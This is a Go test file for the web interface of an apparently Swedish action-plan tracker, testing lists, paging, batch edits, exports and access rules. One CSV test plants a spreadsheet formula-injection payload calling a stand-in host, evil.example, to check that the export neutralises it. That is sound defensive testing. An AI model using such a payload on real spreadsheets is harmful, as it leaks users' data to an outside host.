package web

import (
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"tertial/internal/tertial"
)

func TestTheListShowsWhatTheAddressAsksFor(t *testing.T) {
	s, h := planSite(t)
	root := domOf(t, s.as(coordinator).get("/actions?status=all"))
	rows := rowsIn(t, root, "list")
	if len(rows) != len(h.plan) {
		t.Fatalf("got %d rows, want %d", len(rows), len(h.plan))
	}
	want := []string{"", "2027-7.2", "Utbilda nya medarbetare", "7.2, 7.3", "HR", "2027-03-20 (lör v. 11) ! 4 dagar sen", "◐ Pågår", "Hög", "avviker : Väntar på lokal 2027-03-01 10:00"}
	for i := range want {
		if strings.ReplaceAll(rows[0][i], " :", ":") != strings.ReplaceAll(want[i], " :", ":") {
			t.Errorf("cell %d: got %q, want %q", i, rows[0][i], want[i])
		}
	}
	if got := rows[1][5]; got != "2027-04-23 (fre v. 16) ? obekräftat" {
		t.Errorf("an unconfirmed date reads %q", got)
	}
	rows = rowsIn(t, domOf(t, s.as(auditor).get("/actions?only=late&col=due&col=steps")), "list")
	if len(rows) != 1 || !slices.Equal(rows[0], []string{"2027-7.2", "Utbilda nya medarbetare", "2027-03-20 (lör v. 11) ! 4 dagar sen", "1 av 2 klara"}) {
		t.Errorf("got %q, want the late one with the chosen columns and nothing to tick", rows)
	}
}

func TestWhatHasNoActionsSaysSo(t *testing.T) {
	s, h := planSite(t)
	s.as(auditor).get("/actions?q=finnsinte").wants(t, http.StatusOK, "Inga åtgärder passar urvalet.")
	h.plan = nil
	s.as(auditor).get("/actions").wants(t, http.StatusOK, "Här finns inga åtgärder än.")
}

func TestALongListIsCutIntoPages(t *testing.T) {
	s, h := planSite(t)
	h.plan = nil
	for i := range 120 {
		h.plan = append(h.plan, tertial.Action{Ref: fmt.Sprintf("2027-7.%d", i+1), Title: strings.Repeat("En rätt lång rubrik ", 4), Status: tertial.Open, Priority: tertial.High,
			Responsible: []string{"Avdelningschef för verksamhetsstöd och stadsmiljö"}, Clauses: []string{"7.2"}, Version: 1})
	}
	b := s.as(coordinator)
	h.calls = 0
	a := b.get("/actions")
	long := h.calls
	root := domOf(t, a) // holds the size
	if got := len(rowsIn(t, root, "list")); got != pageRows {
		t.Errorf("got %d rows, want %d", got, pageRows)
	}
	a.wants(t, http.StatusOK, "Visar 1–50 av 120.", `href="/actions?page=2"`)
	b.get("/actions?page=3").wants(t, http.StatusOK, "Visar 101–120 av 120.", `href="/actions?page=2"`)
	if strings.Contains(b.get("/actions?page=3").body, "page=4") {
		t.Error("the last page has a next one")
	}
	h.plan = h.plan[:1]
	h.calls = 0
	b.get("/actions")
	if h.calls != long {
		t.Errorf("%d readings for one action and %d for fifty: one for each row", h.calls, long)
	}
}

func TestAWrongFieldIsToldAndNothingIsListed(t *testing.T) {
	s, h := planSite(t)
	a := s.as(coordinator).get("/actions?from=31%2F12&owner=HR")
	a.wants(t, http.StatusUnprocessableEntity, "Skriv datumet som 2027-03-31.", `href="#from"`, `value="HR"`)
	domOf(t, a)
	if len(h.queries) > 0 {
		t.Error("actions were looked for")
	}
	s.as(coordinator).get("/actions?sneaky=1").wants(t, http.StatusBadRequest)
}

func TestManyAreChangedAtOnce(t *testing.T) {
	s, h := planSite(t)
	b := s.as(coordinator)
	a := b.post("/actions/batch", "pick", "2027-7.2", "pick", "2027-8.2", "to-priority", "low", "to-role", "Säkerhetssamordnare", "to-due", "2027-05-31", "to-start", "1", "here", "/actions?owner=HR")
	if a.StatusCode != http.StatusSeeOther || a.Header.Get("Location") != "/actions?owner=HR" {
		t.Fatalf("got %d %s", a.StatusCode, a.Header.Get("Location"))
	}
	for _, ref := range []string{"2027-7.2", "2027-8.2"} {
		x, _ := h.find(ref)
		if x.Priority != tertial.Low || x.Responsible[0] != "Säkerhetssamordnare" || x.Timing.Due != onDay("2027-05-31") || x.Timing.Certainty != tertial.Confirmed || x.Status != tertial.InProgress {
			t.Errorf("%s: got %+v", ref, x)
		}
		if len(x.Review) > 0 {
			t.Errorf("%s: the question is still open: %v", ref, x.Review)
		}
	}
	if got := h.stamps[0].By; got != "person:14" {
		t.Errorf("it was done by %s", got)
	}
	b.get("/actions").wants(t, http.StatusOK, "2 åtgärder är ändrade.")
}

func TestOfManyThoseThatCannotBeChangedAreTold(t *testing.T) {
	s, h := planSite(t)
	a := s.as(coordinator).post("/actions/batch", "pick", "2027-7.2", "pick", "2027-10.1", "pick", "2027-99", "to-priority", "low", "here", "/actions")
	a.wants(t, http.StatusConflict, "1 åtgärd är ändrad", "2 åtgärder är som de var", "är avslutad och måste återöppnas först", "finns inte längre")
	domOf(t, a)
	if x, _ := h.find("2027-7.2"); x.Priority != tertial.Low {
		t.Error("the one that could be changed was not")
	}
}

func TestABatchThatSaysNothingIsShownAgain(t *testing.T) {
	s, h := planSite(t)
	for name, tt := range map[string]struct {
		pairs []string
		want  string
	}{
		"nothing is ticked":    {[]string{"to-priority", "low"}, "Markera minst en åtgärd"},
		"nothing is to change": {[]string{"pick", "2027-7.2"}, "Fyll i vad som ska ändras"},
		"a day is none":        {[]string{"pick", "2027-7.2", "to-due", "i morgon"}, "Skriv datumet som"},
		"a day is far off":     {[]string{"pick", "2027-7.2", "to-due", "9999-12-31"}, "2000 till 2100"},
		"a priority is none":   {[]string{"pick", "2027-7.2", "to-priority", "urgent"}, "Välj ett av alternativen"},
	} {
		t.Run(name, func(t *testing.T) {
			a := s.as(coordinator).post("/actions/batch", append(tt.pairs, "here", "/actions?status=all")...)
			a.wants(t, http.StatusUnprocessableEntity, tt.want)
			domOf(t, a)
			if len(h.stamps) > 0 {
				t.Error("something was changed")
			}
		})
	}
}

func TestTheSelectionAsCSV(t *testing.T) {
	s, h := planSite(t)
	h.plan[4].Title = `=HYPERLINK("https://evil.example/?"&A1;"klicka")`
	a := s.as(auditor).get("/actions.csv?status=open")
	a.wants(t, http.StatusOK)
	if got := a.Header.Get("Content-Disposition"); got != `attachment; filename=atgarder-2027-03-24.csv` {
		t.Errorf("got Content-Disposition %s", got)
	}
	if got := a.Header.Get("Content-Type"); got != "text/csv; charset=utf-8" {
		t.Errorf("got Content-Type %s", got)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("got %d rows, %v, want a head and two actions", len(rows), err)
	}
	if got := rows[2][2]; got[0] != '\'' {
		t.Errorf("the formula went out as %q", got)
	}
	if q := h.queries[len(h.queries)-1]; !slices.Equal(q.Statuses, []tertial.Status{tertial.Open}) {
		t.Errorf("got the query %+v", q)
	}
}

func TestTheSelectionAsAWorkbook(t *testing.T) {
	s, _ := planSite(t)
	b := s.as(coordinator)
	b.lang = "en"
	h := s.fake.viewers[coordinator.Person.ID]
	h.Person.Language = "en"
	b = s.as(h)
	a := b.get("/actions.xlsx?status=all")
	a.wants(t, http.StatusOK)
	f, err := excelize.OpenReader(strings.NewReader(a.body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Actions")
	if err != nil || len(rows) != 6 || rows[1][0] != "2027-7.2" {
		t.Errorf("got %d rows, %v", len(rows), err)
	}
}

func TestAFileThatBreaksOffIsNoWholeFile(t *testing.T) {
	s, h := planSite(t)
	h.fails = fmt.Errorf("%w: the database is away", tertial.ErrUnavailable)
	for _, ext := range []string{"csv", "xlsx"} {
		s.as(auditor).get("/actions."+ext).wants(t, http.StatusServiceUnavailable, "Går inte att nå just nu")
	}
	out := &begun{w: io.Discard, begin: func() {}}
	if out.any {
		t.Error("nothing was written yet")
	}
	if _, err := out.Write([]byte("x")); err != nil || !out.any {
		t.Errorf("got %v, %t after a byte", err, out.any)
	}
	if !errors.Is(h.fails, tertial.ErrUnavailable) {
		t.Error("the error has lost its kind")
	}
}

func TestWhoMayNotReadEverythingHasNoList(t *testing.T) {
	s, _ := planSite(t)
	for _, path := range []string{"/actions", "/actions.csv", "/actions.xlsx", "/board", "/timeline"} {
		s.as(owner).get(path).wants(t, http.StatusForbidden)
		s.as(manager).get(path).wants(t, http.StatusForbidden)
		if got := s.guest().get(path).StatusCode; got != http.StatusSeeOther {
			t.Errorf("%s: a guest got %d, want to be led to sign in", path, got)
		}
	}
	for _, v := range []tertial.Viewer{owner, manager, auditor} {
		s.as(v).post("/actions/batch", "pick", "2027-7.2", "to-priority", "low").wants(t, http.StatusForbidden)
	}
}
